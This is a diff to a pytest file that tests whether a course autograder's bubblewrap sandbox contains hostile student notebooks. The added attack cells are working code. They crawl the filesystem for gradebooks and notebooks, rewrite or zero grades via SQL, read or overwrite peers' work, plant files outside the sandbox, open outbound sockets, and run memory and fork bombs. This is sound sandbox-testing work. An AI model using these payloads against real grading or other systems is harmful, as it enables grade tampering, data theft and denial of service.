@@ -7,18 +7,28 @@ engine runs in CI). The hostile-learner tests grade attackers and honest learner
 
 from __future__ import annotations
 
+import contextlib
+import copy
+import hashlib
 import os
 import socket
 import subprocess
 import sys
+import tempfile
 import textwrap
 from pathlib import Path
 
+import nbformat
 import pytest
+from test_grading import FIXTURE_BOOK, cell_by_id, save
 
+from nlpcourse.instructor import cli
 from nlpcourse.instructor import sandbox as sb
+from nlpcourse.instructor.gradesheet import read_csv
+from nlpcourse.instructor.versions import generate_versions
 
 ROOT = Path(__file__).resolve().parents[1]
+SECRET = "honest-learner-private-7f3a9c"  # in every honest notebook; no attacker may get to see it
 
 
 @pytest.fixture(scope="module")
@@ -230,3 +240,228 @@ def test_unprivileged_grader_gets_a_user_namespace_with_its_own_process_count(tm
     assert done.returncode == 0, done.stderr
     code, _, children, uid = done.stdout.split()[:4]  # "<exit code> children <n> <uid>"
     assert code == "0" and int(children) < 20 and uid == "65534", done.stdout
+
+
+# --------------------------------------------------------------------------- hostile learners, graded with honest ones
+
+# Code every attacker runs first: where it looks. A well-informed attacker knows the layout of
+# the grader's folders (the test hands it the real paths); it also searches what it can see.
+HUNT = '''
+import os, sys
+KNOWN = {known!r}
+SKIP = {{"/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}}
+
+def hunt(suffix):
+    """Every file ending in ``suffix`` it can see: at the known places, up from here, from /."""
+    here = os.getcwd()
+    starts = KNOWN + [os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/"]
+    found = set()
+    for start in starts:
+        for root, dirs, files in os.walk(start):
+            dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP]
+            found.update(os.path.join(root, f) for f in files
+                         if f.endswith(suffix) and not os.path.join(root, f).startswith(here))
+    return sorted(found)
+'''
+ATTACKS = {
+    "gradebook": '''
+import sqlite3
+targets = hunt("gradebook.db") + [os.path.abspath("../../../gradebook.db")]
+for path in targets:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE source_cell SET source = 'pass' WHERE locked = 1")
+        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
+        db.commit()
+        print("REWROTE", path)
+    except Exception as err:
+        print("blocked", path, type(err).__name__)
+''',
+    "modify": '''
+print("notebooks found:", len(hunt(".ipynb")))
+for path in hunt(".ipynb"):
+    try:
+        with open(path, "w") as f:
+            f.write("{}")
+        print("OVERWROTE", path)
+    except OSError as err:
+        print("blocked", path, type(err).__name__)
+''',
+    "read": '''
+for path in hunt(".ipynb"):
+    try:
+        print("READ", path, open(path).read())
+    except OSError as err:
+        print("blocked", path, type(err).__name__)
+print("notebooks found:", len(hunt(".ipynb")))
+''',
+    "outside": '''
+targets = KNOWN + [os.path.expanduser("~"), "/tmp", "/", "..", "../..", os.environ.get("NLPCOURSE_DATA", "/")]
+for folder in targets:
+    try:
+        with open(os.path.join(folder, "PWNED-by-attacker"), "w") as f:
+            f.write("pwned")
+        print("WROTE in", folder)
+    except OSError as err:
+        print("blocked", folder, type(err).__name__)
+''',
+    "network": '''
+import socket
+for address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
+    try:
+        socket.create_connection(address, timeout=3).sendall(b"stolen")
+        print("CONNECTED", address)
+    except OSError as err:
+        print("blocked", address, type(err).__name__)
+''',
+    "memory": '''
+blocks = []
+while True:
+    blocks.append(b"x" * (64 << 20))  # touched, not just reserved
+''',
+    "fork": '''
+import time
+while True:  # every process forks again; when the system says no, it waits and tries again
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.5)
+''',
+}
+HONEST = ("honest-full", "honest-stub", "honest-wrong")
+MEMORY_GIB = 2  # the attacker's address-space bound in this test (the default is larger)
+
+
+def sha256_tree(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def gradebook_rows(course: Path, students) -> list[tuple]:
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        rows = [(student, g.name, g.auto_score, g.manual_score, g.needs_manual_grade)
+                for student in students for g in gb.find_submission_notebook("fixture", "fixture", student).grades]
+        cells = [(c.name, c.source, c.checksum) for c in gb.find_notebook("fixture", "fixture").source_cells]
+    return sorted(rows, key=str) + sorted(cells, key=str)
+
+
+def honest_submissions(folder: Path, lab, solution) -> None:
+    wrong = copy.deepcopy(solution)
+    cell_by_id(wrong, "fx-mean").source = "def mean(xs):\n    return 0.0"
+    for student, nb in zip(HONEST, (solution, lab, wrong)):
+        nb = copy.deepcopy(nb)
+        nb.cells.append(nbformat.v4.new_markdown_cell(f"private notes of {student}: {SECRET}"))
+        save(folder, student, "fixture", nb)
+
+
+def attacker(solution, name: str, known: list[str], port: int):
+    nb = copy.deepcopy(solution)  # a complete, correct solution, plus the attack at the end
+    nb.cells.append(nbformat.v4.new_code_cell(HUNT.format(known=known)))
+    nb.cells.append(nbformat.v4.new_code_cell(ATTACKS[name].replace("{port}", str(port))))
+    return nb
+
+
+def grade_cli(subs: Path, out: Path, course: Path, *extra: str) -> dict:
+    assert cli.main(["grade", str(subs), "--out", str(out / "grades.csv"), "--feedback", str(out / "feedback"),
+                     "--book", str(FIXTURE_BOOK), "--course-dir", str(course), "--config", str(ROOT / "nbgrader_config.py"),
+                     "--timeout", "8", "--submission-timeout", "60", "--sandbox", "bwrap",
+                     "--sandbox-memory", str(MEMORY_GIB), *extra]) == 0
+    return read_csv(out / "grades.csv")
+
+
+@pytest.fixture(scope="module")
+def hostile_run(bwrap, tmp_path_factory):
+    """The honest learners graded alone, then again after every attacker in one run."""
+    base = tmp_path_factory.mktemp("hostile")
+    versions = base / "versions"
+    generate_versions(FIXTURE_BOOK, versions / "labs", versions / "solutions")
+    lab = nbformat.read(versions / "labs" / "fixture.ipynb", as_version=4)
+    solution = nbformat.read(versions / "solutions" / "fixture.ipynb", as_version=4)
+
+    honest_subs = base / "alone" / "submissions"
+    honest_submissions(honest_subs, lab, solution)
+    alone = grade_cli(honest_subs, base / "alone", base / "alone" / "course")
+
+    subs, course, out = base / "attacked" / "submissions", base / "attacked" / "course", base / "attacked"
+    honest_submissions(subs, lab, solution)
+    before = sha256_tree(subs)
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.1)
+    known = [str(course), str(subs), str(out), str(base), str(ROOT)]
+    for name in ATTACKS:
+        save(subs, f"attacker-{name}", "fixture", attacker(solution, name, known, server.getsockname()[1]))
+    try:
+        attacked = grade_cli(subs, out, course)
+        connections = 0
+        with contextlib.suppress(OSError):
+            while server.accept():
+                connections += 1
+    finally:
+        server.close()
+    return dict(base=base, alone=alone, attacked=attacked, before=before, subs=subs, course=course, out=out,
+                connections=connections)
+
+
+def test_honest_learners_get_exactly_what_they_get_alone(hostile_run):
+    r = hostile_run
+    for student in HONEST:
+        assert r["attacked"][(student, "fixture")] == r["alone"][(student, "fixture")], student
+    assert float(r["alone"][("honest-full", "fixture")]["auto_score"]) == 5  # the comparison is not vacuous
+    assert gradebook_rows(r["course"], HONEST) == gradebook_rows(r["base"] / "alone" / "course", HONEST)
+
+
+def test_no_submission_changed_and_nothing_planted_outside(hostile_run):
+    r = hostile_run
+    after = sha256_tree(r["subs"])
+    assert {k: v for k, v in after.items() if k.startswith("honest")} == r["before"]
+    planted = [p for p in r["base"].rglob("PWNED*")] + [p for p in ROOT.glob("PWNED*")]
+    planted += [p for p in Path(tempfile.gettempdir()).glob("PWNED*")] + list(Path.home().glob("PWNED*"))
+    assert not planted, planted
+
+
+def test_attackers_reached_nothing(hostile_run):
+    r = hostile_run
+    assert r["connections"] == 0
+    for name in ATTACKS:
+        said = printed(r["course"] / "autograded" / f"attacker-{name}" / "fixture" / "fixture.ipynb")
+        for word in ("REWROTE", "OVERWROTE", "READ ", "CONNECTED", SECRET):  # writes to its private /tmp are fine
+            assert word not in said, f"attacker-{name}: {word}"
+        assert SECRET not in (r["out"] / "feedback" / f"attacker-{name}" / "fixture.html").read_text()
+        assert SECRET not in r["attacked"][(f"attacker-{name}", "fixture")]["reason"]
+    for name, word in (("gradebook", "blocked"), ("outside", "blocked"), ("network", "blocked"),
+                       ("modify", "notebooks found: 0"), ("read", "notebooks found: 0")):  # they ran, and got nowhere
+        assert word in printed(r["course"] / "autograded" / f"attacker-{name}" / "fixture" / "fixture.ipynb"), name
+
+
+def printed(notebook: Path) -> str:
+    """Everything the cells of an executed notebook printed (not their source)."""
+    if not notebook.exists():
+        return ""
+    nb = nbformat.read(notebook, as_version=4)
+    return "\n".join(o.get("text", "") + o.get("evalue", "") for c in nb.cells for o in c.get("outputs", []))
+
+
+def test_memory_and_fork_bombs_are_contained(hostile_run):
+    r = hostile_run
+    memory = r["attacked"][("attacker-memory", "fixture")]
+    if memory["status"] != "failed":  # MemoryError in its own last cell; its graded cells keep their points
+        assert "MemoryError" in memory["reason"] and float(memory["auto_score"]) == 5, memory
+    fork = r["attacked"][("attacker-fork", "fixture")]
+    assert fork["status"] == "failed" or float(fork["auto_score"]) == 5, fork
+    assert not sandboxed_processes(), "processes of a sandbox outlived its grading"
+
+
+def sandboxed_processes() -> list:
+    """Processes still running with the sandbox's environment (its private cache folder)."""
+    import psutil
+
+    alive = []
+    for proc in psutil.process_iter():
+        with contextlib.suppress(psutil.Error):
+            if proc.environ().get("NLPCOURSE_CACHE") == sb.PRIVATE_CACHE:
+                alive.append(proc)
+    return alive
